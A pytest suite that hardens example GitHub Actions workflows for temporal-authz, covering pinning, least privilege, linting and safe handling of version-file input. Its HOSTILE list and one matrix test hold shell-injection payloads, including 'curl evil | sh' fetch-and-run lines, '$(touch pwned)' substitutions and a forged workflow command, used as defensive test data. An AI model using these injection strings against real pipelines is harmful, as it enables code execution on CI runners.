"""The GitHub Actions workflows in examples/ci/: they parse, and every `temporal-authz` command they call
exists, answers --help, and knows each option it is given (its own, or pytest's and the plugin's). They
cannot be turned against their user: zizmor and actionlint find nothing, every action is pinned by commit,
the token reads at most, and the pull request's version file reaches a shell only as checked data; the
steps' scripts run here as the runner runs them."""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import shlex
import subprocess
import sys
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml

from harness import cli
from harness.report import gate, gate_command
from tests import ci_tools

EXAMPLES = Path(__file__).resolve().parent.parent / "examples" / "ci"
WORKFLOWS = sorted(EXAMPLES.glob("*.yml"))
SHELL_END = {"|", "||", "&&", ";", "2>&1", ">", ">>"}


def load(path: Path) -> dict[Any, Any]:
    data = yaml.safe_load(path.read_text())
    assert isinstance(data, dict), path
    return data


def steps(workflow: dict[Any, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def invocations(script: str) -> list[list[str]]:
    """Each `temporal-authz ...` command line of a run: script, continuation lines joined."""
    found = []
    for line in script.replace("\\\n", " ").splitlines():
        if "temporal-authz " not in line:
            continue
        words = shlex.split(line[line.index("temporal-authz ") :])
        end = next((i for i, w in enumerate(words) if w in SHELL_END), len(words))
        found.append(words[:end])
    return found


def calls() -> list[tuple[str, list[str]]]:
    return [
        (path.name, words)
        for path in WORKFLOWS
        for step in steps(load(path))
        for words in invocations(str(step.get("run", "")))
    ]


def temporal_authz(*args: str) -> subprocess.CompletedProcess[str]:
    """The console command where it is installed beside this interpreter, else the module it runs."""
    script = Path(sys.executable).parent / "temporal-authz"
    command = [str(script)] if script.exists() else [sys.executable, "-m", "harness.cli"]
    return subprocess.run([*command, *args], capture_output=True, text=True, timeout=120)


@cache
def pytest_help() -> str:
    result = temporal_authz("conformance", "--pytest-help")
    assert result.returncode == 0, result.stderr
    return result.stdout


@cache
def help_text(command: str) -> str:
    result = temporal_authz(command, "--help")
    assert result.returncode == 0, result.stderr
    return result.stdout + (pytest_help() if cli.COMMANDS[command].passes_pytest_options else "")


def test_there_are_both_workflows() -> None:
    assert {p.name for p in WORKFLOWS} == {"upgrade-gate.yml", "version-matrix.yml"}


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_parses(path: Path) -> None:
    workflow = load(path)
    triggers = workflow.get("on", workflow.get(True))  # YAML 1.1 reads a bare `on` as true
    assert triggers, "no trigger"
    for step in steps(workflow):
        assert "uses" in step or "run" in step, step


def test_the_gate_runs_on_a_pull_request_that_changes_the_version_file() -> None:
    workflow = load(EXAMPLES / "upgrade-gate.yml")
    paths = workflow[True]["pull_request"]["paths"]
    assert workflow["env"]["VERSION_FILE"] in paths  # the trigger and the file read stay in step


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_servers_are_cached_per_version(path: Path) -> None:
    cached = [s for s in steps(load(path)) if str(s.get("uses", "")).startswith("actions/cache")]
    assert cached
    for step in cached:
        key = step["with"]["key"]
        assert re.search(r"\$\{\{ (matrix\.temporal-version|steps\.versions\.outputs\.(new|old)) \}\}", key)
        for path_line in step["with"]["path"].splitlines():
            assert "AUTHZ_CACHE }}/" in path_line and "${{" in path_line.partition("}}/")[2], path_line


@pytest.mark.parametrize("call", calls(), ids=lambda c: f"{c[0]}:{' '.join(c[1][:2])}")
def test_every_command_exists_and_knows_its_options(call: tuple[str, list[str]]) -> None:
    _, words = call
    command = words[1]
    assert command in cli.COMMANDS
    known = help_text(command)
    for word in words[2:]:
        option = word.split("=", 1)[0]
        if option.startswith("--"):
            assert re.search(rf"(^|[\s,\[]){re.escape(option)}\b", known), f"{command} does not know {option}"


def test_every_subcommand_is_called_somewhere() -> None:
    used = {words[1] for _, words in calls()}
    assert {"gate", "conformance", "matrix-merge"} <= used


# --- the workflows cannot be turned against their user ---------------------------------------------------

ZIZMOR = ["--offline", "--strict-collection", "--no-config", "--no-ignores", "--no-progress", "--color=never"]
# The auditor persona (it runs offline too: it only reports more, with more false positives) finds on
# these workflows what is not a weakness, and why:
AUDITOR_NOISE = {
    # "workflow or action definition without a name" (informational), on the jobs `gate` and `matrix`: a
    # job without `name:` shows as its id, and `gate` is the check's name that branch protection makes
    # required; a name would only rename that check. Nothing runs differently either way.
    "anonymous-definition",
}
PINNED = re.compile(
    r"^\s*(- )?uses: [\w.-]+/[\w.-]+(/[\w./-]+)?@(?P<sha>[0-9a-f]{40})  # (?P<tag>v\d+\.\d+\.\d+)$"
)
VERSION_PATTERN = r"^v?[0-9]+\.[0-9]+\.[0-9]+$"


def run_tool(command: list[str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(command, capture_output=True, text=True, timeout=300, cwd=EXAMPLES.parent.parent)


def workflow_args() -> list[str]:
    return [str(p.relative_to(EXAMPLES.parent.parent)) for p in WORKFLOWS]


def test_zizmor_finds_nothing() -> None:
    try:
        zizmor = ci_tools.zizmor()
    except ci_tools.ToolMissing as exc:
        pytest.fail(str(exc))
    result = run_tool([str(zizmor), *ZIZMOR, *workflow_args()])
    assert result.returncode == 0, f"zizmor (exit {result.returncode}):\n{result.stdout}{result.stderr}"
    assert "No findings to report" in result.stdout, result.stdout


def test_zizmor_as_an_auditor_finds_only_noise() -> None:
    try:
        zizmor = ci_tools.zizmor()
    except ci_tools.ToolMissing as exc:
        pytest.fail(str(exc))
    found = run_tool([str(zizmor), *ZIZMOR, "--persona=auditor", "--format=json", *workflow_args()])
    assert found.returncode in (0, 10, 11, 12, 13, 14), found.stderr  # 10-14: findings, by top severity
    real = [f for f in json.loads(found.stdout) if f["ident"] not in AUDITOR_NOISE]
    if real:
        shown = run_tool([str(zizmor), *ZIZMOR, "--persona=auditor", *workflow_args()])
        pytest.fail(f"zizmor --persona=auditor: {sorted(f['ident'] for f in real)}\n{shown.stdout}")


def test_actionlint_finds_nothing() -> None:
    try:
        actionlint = ci_tools.actionlint()
    except ci_tools.ToolMissing as exc:
        pytest.fail(str(exc))
    result = run_tool([str(actionlint), "-no-color", "-oneline", *workflow_args()])
    assert result.returncode == 0, f"actionlint (exit {result.returncode}):\n{result.stdout}{result.stderr}"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_every_action_is_pinned_by_commit_with_its_version(path: Path) -> None:
    lines = [line for line in path.read_text().splitlines() if re.match(r"^\s*(- )?uses:", line)]
    assert lines
    for line in lines:
        assert PINNED.match(line), f"not `uses: owner/repo@<40-hex commit>  # vX.Y.Z`: {line.strip()}"


def test_a_commit_is_one_version_everywhere() -> None:
    tags: dict[str, set[str]] = {}
    for path in WORKFLOWS:
        for line in path.read_text().splitlines():
            if match := PINNED.match(line):
                tags.setdefault(match["sha"], set()).add(match["tag"])
    assert tags and all(len(t) == 1 for t in tags.values()), tags


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_least_privilege(path: Path) -> None:
    workflow = load(path)
    assert workflow.get("permissions") in ({}, {"contents": "read"}), "the token's default: write to much"
    for name, job in workflow["jobs"].items():
        assert set((job.get("permissions") or {}).values()) <= {"read", "none"}, name
        for step in job["steps"]:
            if str(step.get("uses", "")).startswith("actions/checkout@"):
                assert (step.get("with") or {}).get("persist-credentials") is False, (
                    "the token stays in .git/config"
                )


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_no_expression_is_pasted_into_a_script(path: Path) -> None:
    """`${{ }}` in `run:` is pasted into the script before bash reads it: data must come through `env:`."""
    for step in steps(load(path)):
        assert "${{" not in str(step.get("run", "")), step.get("name", step.get("uses"))


# --- the steps' scripts, run as the runner runs them -----------------------------------------------------

BASH = ["bash", "--noprofile", "--norc", "-eo", "pipefail"]  # what `shell: bash` runs a step with
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")


def find_step(workflow: dict[Any, Any], key: str) -> tuple[dict[str, Any], dict[str, Any]]:
    for job in workflow["jobs"].values():
        for step in job["steps"]:
            if key in (step.get("id"), step.get("name")):
                return job, step
    raise AssertionError(f"no step {key!r}")


def run_step(
    path: Path,
    key: str,
    work: Path,
    values: dict[str, str] | None = None,
    stubs: Path | None = None,
) -> tuple[subprocess.CompletedProcess[str], dict[str, str]]:
    """Run a `shell: bash` step's script in `work` with the workflow's, job's and step's `env:`, each
    `${{ expression }}` in them replaced from `values`; `stubs` goes first on PATH. Returns the result and
    the files the runner reads back (GITHUB_OUTPUT, GITHUB_STEP_SUMMARY)."""
    workflow = load(path)
    job, step = find_step(workflow, key)
    assert step.get("shell") == "bash", key
    runner = work.parent / "runner"
    runner.mkdir(exist_ok=True)
    files = {name: runner / name for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY")}
    for file in files.values():
        file.write_text("")
    script = runner / "step.sh"
    script.write_text(step["run"])
    env = {
        "PATH": os.pathsep.join([*([str(stubs)] if stubs else []), os.environ["PATH"]]),
        "HOME": str(runner),
        "LC_ALL": "C.UTF-8",
        **{name: str(file) for name, file in files.items()},
    }
    for scope in (workflow.get("env"), job.get("env"), step.get("env")):
        for name, value in (scope or {}).items():
            env[name] = EXPRESSION.sub(lambda m: (values or {})[m.group(1)], str(value))
    result = subprocess.run(
        [*BASH, str(script)], cwd=work, env=env, capture_output=True, text=True, timeout=60
    )
    return result, {name: file.read_text() for name, file in files.items()}


def stub(directory: Path, name: str, body: str) -> None:
    directory.mkdir(exist_ok=True)
    (directory / name).write_text(f"#!/bin/bash\n{body}\n")
    (directory / name).chmod(0o755)


GATE = EXAMPLES / "upgrade-gate.yml"
GATE_ENV = load(GATE)["env"]
BASE_FILE = Path(GATE_ENV["BASE_CHECKOUT"]) / GATE_ENV["VERSION_FILE"]


def version_files(work: Path, new: str, old: str = "v1.31.2\n") -> None:
    """The pull request's version file, and the base branch's as the second checkout leaves it."""
    (work / GATE_ENV["VERSION_FILE"]).write_text(new)
    (work / BASE_FILE).parent.mkdir(parents=True)
    (work / BASE_FILE).write_text(old)


@pytest.mark.parametrize("new", ["v1.32.2\n", "1.32.2", " v1.32.2 \r\n"])
def test_the_versions_step_reads_both_versions(tmp_path: Path, new: str) -> None:
    work = tmp_path / "work"
    work.mkdir()
    version_files(work, new, old="1.31.2\n")
    result, files = run_step(GATE, "versions", work)
    assert result.returncode == 0, result.stderr
    assert files["GITHUB_OUTPUT"].splitlines() == ["new=v1.32.2", "old=v1.31.2"]


HOSTILE = [
    'v1.2.3"; curl evil | sh; echo "',
    "$(touch pwned)",
    "`touch pwned`",
    "v1.2.3;touch${IFS}pwned",
    "v1.2.3\n$(touch pwned)\n",
    "v1.2.3\nnew=v9.9.9\n::warning::forged",
    "v1.2.3 && curl evil | sh",
    "${{ github.token }}",
    "v1.2.3\x00$(touch pwned)",
    "v" + "1" * 5000 + ".2.3$(touch pwned)",
]


@pytest.mark.parametrize("content", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("side", ["new", "old"])
def test_a_hostile_version_file_fails_the_step_unrun(tmp_path: Path, content: str, side: str) -> None:
    work, stubs = tmp_path / "work", tmp_path / "stubs"
    work.mkdir()
    for command in ("curl", "sh", "touch", "id"):  # anything the content would run leaves a trace
        stub(stubs, command, f'echo {command} "$@" >> {tmp_path}/ran')
    if side == "new":
        version_files(work, content, old="v1.31.2")
    else:
        version_files(work, "v1.32.2", old=content)
    result, files = run_step(GATE, "versions", work, stubs=stubs)
    assert result.returncode != 0
    assert not (tmp_path / "ran").exists() and not (work / "pwned").exists()
    assert files["GITHUB_OUTPUT"] == ""  # neither version leaves the step
    assert "holds no version like v1.32.2" in result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("::")]
    assert len(errors) == 1 and errors[0].startswith("::error::"), (
        result.stderr
    )  # one line, no forged command
    assert len(result.stderr) < 500, "the content is quoted, not copied whole"


def gate_reading_yaml(tmp_path: Path) -> Path:
    """upgrade-gate.yml adapted to a Helm values file, as its `>>>` comment says."""
    workflow = load(GATE)
    workflow["env"]["VERSION_QUERY"] = ".server.image.tag"
    adapted = tmp_path / "upgrade-gate.yml"
    adapted.write_text(yaml.safe_dump(workflow, sort_keys=False))
    return adapted


def test_a_hostile_yaml_version_fails_the_step_unrun(tmp_path: Path) -> None:
    """With VERSION_QUERY (a Helm values file), what yq prints is checked the same way."""
    work, stubs = tmp_path / "work", tmp_path / "stubs"
    work.mkdir()
    version_files(work, "server:\n  image:\n    tag: x\n")
    stub(stubs, "touch", f'echo touch "$@" >> {tmp_path}/ran')
    # the new version file's "version" is two lines, the second one a command substitution
    stub(stubs, "yq", f'echo "$@" >> {tmp_path}/yq; printf "%s\\n" v1.2.3 \'$(touch pwned)\'')
    result, files = run_step(gate_reading_yaml(tmp_path), "versions", work, stubs=stubs)
    assert result.returncode != 0 and files["GITHUB_OUTPUT"] == ""
    assert not (tmp_path / "ran").exists() and not (work / "pwned").exists()
    assert "holds no version like v1.32.2" in result.stderr
    assert (tmp_path / "yq").read_text() == ".server.image.tag TEMPORAL_VERSION\n"


def test_the_versions_step_reads_a_yaml_version_with_yq(tmp_path: Path) -> None:
    work, stubs = tmp_path / "work", tmp_path / "stubs"
    work.mkdir()
    version_files(work, "server: {image: {tag: 1.32.2}}\n", old="server: {image: {tag: 1.31.2}}\n")
    stub(stubs, "yq", f'echo "$@" >> {tmp_path}/yq; sed -E "s/.*tag: ([0-9.]+).*/\\1/" "$2"')
    result, files = run_step(gate_reading_yaml(tmp_path), "versions", work, stubs=stubs)
    assert result.returncode == 0, result.stderr
    assert files["GITHUB_OUTPUT"].splitlines() == ["new=v1.32.2", "old=v1.31.2"]
    assert (tmp_path / "yq").read_text().splitlines() == [
        ".server.image.tag TEMPORAL_VERSION",
        f".server.image.tag {BASE_FILE}",
    ]


def test_a_version_file_that_is_a_link_is_refused(tmp_path: Path) -> None:
    """A pull request can add a symbolic link: the step reads no file outside the checkout."""
    work = tmp_path / "work"
    work.mkdir()
    version_files(work, "v1.32.2")
    secret = tmp_path / "secret"
    secret.write_text("v6.6.6")
    (work / GATE_ENV["VERSION_FILE"]).unlink()
    (work / GATE_ENV["VERSION_FILE"]).symlink_to(secret)
    result, files = run_step(GATE, "versions", work)
    assert result.returncode != 0 and files["GITHUB_OUTPUT"] == ""
    assert "is not a file" in result.stderr


def test_the_gate_step_passes_the_versions_as_arguments(tmp_path: Path) -> None:
    work, stubs = tmp_path / "work", tmp_path / "stubs"
    work.mkdir()
    stub(stubs, "temporal-authz", f'printf "%s\\n" "$@" > {tmp_path}/args; echo "gate: v1.31.2 -> v1.32.2"')
    values = {"steps.versions.outputs.new": "v1.32.2", "steps.versions.outputs.old": "v1.31.2"}
    result, _ = run_step(GATE, "Upgrade gate", work, values, stubs=stubs)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "args").read_text().split() == [
        *("gate", "--temporal-version", "v1.32.2", "--baseline", "v1.31.2"),
        *("--backend", "process", "--reports-dir", "reports"),
    ]
    assert (work / "gate.log").read_text() == "gate: v1.31.2 -> v1.32.2\n"


# What the suites print before the gate's own lines (pytest -q and the plugin's summary): indented lines
# among them, none of which belongs in the job summary.
SUITE_OUTPUT = """\
building temporal-server v1.32.2 (GOTOOLCHAIN=go1.26.8 go install go.temporal.io/server/cmd/server@v1.32.2)
........................................................................ [ 12%]
..............................s......F.................................. [ 25%]
=================================== FAILURES ===================================
____________________ test_http_door[internal-frontend] _____________________
  File "suites/test_doors.py", line 88, in test_http_door
    assert answer.status == 403
  grid: DescribeNamespace -> 200
  tests: 1 failed
=============================== warnings summary ===============================
  /site-packages/testcontainers/core/waiting_utils.py:12: DeprecationWarning: x -> y
========================== temporal-authz conformance ==========================
server v1.32.2 on process backend (era 1.32); verdicts: pass=4210, finding=3, fail=1
reports: reports/conformance.json, reports/report.html
1 failed, 4213 passed, 12 skipped in 141.20s (0:02:21)
"""


def gate_output(older: str, newer: str, found: list[gate.Change]) -> str:
    """What `temporal-authz gate` prints once the suites ran: gate.print_changes itself."""
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        gate.print_changes(found, older, newer, Path("reports/gate.html"))
    return out.getvalue()


def packaged_changes(older: str, newer: str) -> list[gate.Change]:
    def snapshot(version: str) -> dict[str, Any]:
        return gate.as_snapshot(json.loads(gate.packaged_baseline(version).read_text()))

    return gate.changes(snapshot(older), snapshot(newer))


def summary_of(tmp_path: Path, log: str | None) -> str:
    work = tmp_path / "work"
    work.mkdir()
    if log is not None:
        (work / "gate.log").write_text(log)
    values = {"steps.versions.outputs.old": "v1.31.2", "steps.versions.outputs.new": "v1.32.2"}
    result, files = run_step(GATE, "What changed (job summary)", work, values)
    assert result.returncode == 0, result.stderr
    return files["GITHUB_STEP_SUMMARY"]


def test_the_job_summary_shows_every_change(tmp_path: Path) -> None:
    printed = gate_output("v1.31.2", "v1.32.2", packaged_changes("v1.31.2", "v1.32.2"))
    summary = summary_of(tmp_path, SUITE_OUTPUT + printed)
    assert summary.startswith("### Temporal upgrade gate: v1.31.2 -> v1.32.2\n```\n")
    shown = summary.split("```\n")[1].splitlines()
    assert shown == printed.splitlines()  # the count, every change in the gate's order, the page; no more
    assert "gate: v1.31.2 -> v1.32.2: 17 authorization decision(s) changed" in shown[0]
    assert (
        "  ValidateWorkerDeploymentVersionComputeConfig (WorkflowService), token NamespaceReader, "
        "Own namespace: ALLOWED -> DENIED"
    ) in shown
    assert "did not run to the end" not in summary


def test_the_job_summary_of_a_gate_that_ran_the_baseline_first(tmp_path: Path) -> None:
    changed = [
        gate.Change(
            "grid", "NamespaceWriter x WorkflowService/UpdateNamespace x Own", "", "DENIED", "ALLOWED"
        ),
        gate.Change(
            "tests",
            "suites/test_by_id.py::test_by_id[AUTHZ-BYID-001-Anonymous]",
            "exempt",
            "ALLOWED",
            "DENIED",
        ),
    ]
    first = "gate: no packaged baseline for v1.31.0: running the suites on it into reports/baseline-v1.31.0\n"
    summary = summary_of(
        tmp_path, first + SUITE_OUTPUT + SUITE_OUTPUT + gate_output("v1.31.0", "v1.32.2", changed)
    )
    shown = summary.split("```\n")[1].splitlines()
    assert shown == [
        first.strip(),
        "gate: v1.31.0 -> v1.32.2: 2 authorization decision(s) changed, 0 cell(s) or test(s) appeared or "
        "disappeared (methods added or removed)",
        "  UpdateNamespace (WorkflowService), token NamespaceWriter, Own namespace: DENIED -> ALLOWED",
        "  suites/test_by_id.py::test_by_id[AUTHZ-BYID-001-Anonymous] [exempt]: ALLOWED -> DENIED",
        "gate: the changes as a page: reports/gate.html",
    ]


@pytest.mark.parametrize(
    "log",
    [None, "", SUITE_OUTPUT, "gate: the suites did not run to the end (exit status 4): no diff\n"],
    ids=["no log", "empty", "suites only", "refused"],
)
def test_the_job_summary_of_a_gate_that_did_not_finish(tmp_path: Path, log: str | None) -> None:
    summary = summary_of(tmp_path, log)
    assert "the gate did not run to the end: see the log" in summary
    assert "  File" not in summary and "verdicts" not in summary
    if log and log.startswith("gate:"):
        assert log.strip() in summary


def test_the_job_summary_stays_under_githubs_limit(tmp_path: Path) -> None:
    """Every decision changed (a server that denies everything): the summary keeps the first ones, says
    how many more there are, and stays well under the 1 MiB a step's summary may hold."""
    old = gate.as_snapshot(json.loads(gate.packaged_baseline("v1.32.2").read_text()))
    new = {
        **old,
        "grid": dict.fromkeys(old["grid"], "UNAVAILABLE"),
        "tests": dict.fromkeys(old["tests"], "x"),
    }
    found = gate.changes(old, new)
    summary = summary_of(tmp_path, gate_output("v1.32.2", "v1.32.2", found))
    assert len(summary.encode()) < 512 * 1024
    more = re.search(r"^  \.\.\. and (\d+) more: see gate\.html$", summary, re.M)
    assert more and 0 < int(more[1]) < len(found)
    assert summary.count(" -> UNAVAILABLE\n") + int(more[1]) + summary.count(" -> x\n") == len(found)
    assert "gate: the changes as a page: reports/gate.html" in summary


def test_the_matrix_step_refuses_what_is_not_a_version(tmp_path: Path) -> None:
    matrix = EXAMPLES / "version-matrix.yml"
    work, stubs = tmp_path / "work", tmp_path / "stubs"
    work.mkdir()
    stub(stubs, "temporal-authz", f'printf "%s\\n" "$@" > {tmp_path}/args')
    step = "Conformance on ${{ matrix.temporal-version }}"
    result, _ = run_step(matrix, step, work, {"matrix.temporal-version": "v1.32.2"}, stubs=stubs)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "args").read_text().split()[:3] == ["conformance", "--temporal-version", "v1.32.2"]
    (tmp_path / "args").unlink()
    result, _ = run_step(matrix, step, work, {"matrix.temporal-version": "v1.32.2; touch pwned"}, stubs=stubs)
    assert result.returncode != 0 and "not a version like v1.32.2" in result.stderr
    assert not (tmp_path / "args").exists() and not (work / "pwned").exists()


def test_the_steps_check_versions_as_the_gate_does() -> None:
    """The pattern the workflows hold a version to is the brief's, and the gate's own (gate_command)."""
    for path in WORKFLOWS:
        assert VERSION_PATTERN in path.read_text(), path.name
    for text, valid in (("v1.32.2", True), ("1.32.2", True), ("v1.32", False), ("v1.32.2-rc1", False)):
        assert bool(re.match(VERSION_PATTERN, text)) is valid is gate_command.is_version(text)
